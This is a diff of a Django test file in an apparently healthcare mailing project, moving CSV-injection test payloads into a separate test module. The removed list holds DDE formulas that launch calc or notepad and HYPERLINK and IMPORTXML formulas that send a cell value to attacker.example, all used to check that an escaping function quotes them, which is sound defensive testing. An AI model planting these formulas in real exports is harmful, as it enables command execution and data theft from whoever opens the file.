@@ -16,43 +16,12 @@ from contacts.models import Contact
 from contacts.services import ContactInput, contact_upsert_many
 from healthmail.accounts.roles import Role
 from healthmail.actors import Actor
-from healthmail.spreadsheet import spreadsheet_safe
 from healthmail.tenants.context import tenant_context
 from segmentation.services import segment_create
+from tests.privacy.test_csv_injection import HARMLESS, PAYLOADS
 
 pytestmark = pytest.mark.django_db
 ACTOR = Actor.system("tests")
-
-# Written from the payloads of the OWASP "CSV Injection" page and the payloadbox /
-# PayloadsAllTheThings collections: DDE, arithmetic prefixes, HYPERLINK exfiltration, IMPORTXML,
-# and the whitespace / control-character variants some spreadsheets skip before a formula.
-PAYLOADS = [
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "+hack(cmd|'/c calc.exe'!A",
-    "-2+3+cmd|'/C calc'!A1",
-    '=HYPERLINK("http://attacker.example?leak="&A1,"Click me")',
-    '=IMPORTXML("http://attacker.example/x.xml","//a")',
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "   @SUM(1+1)",
-    "\u00a0+1",
-    '=cmd|"/C notepad"!"A1"',
-    "|calc",
-    "%0A=1+1",
-]
-HARMLESS = ["Dana", "a=b", "O'Neil", "Anne-Marie", "50% off"]
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_every_formula_start_is_quoted(payload):
-    assert spreadsheet_safe(payload) == "'" + payload
-
-
-@pytest.mark.parametrize("text", HARMLESS)
-def test_plain_text_is_left_alone(text):
-    assert spreadsheet_safe(text) == text
 
 
 def _people(tenant, names: list[str]) -> list:
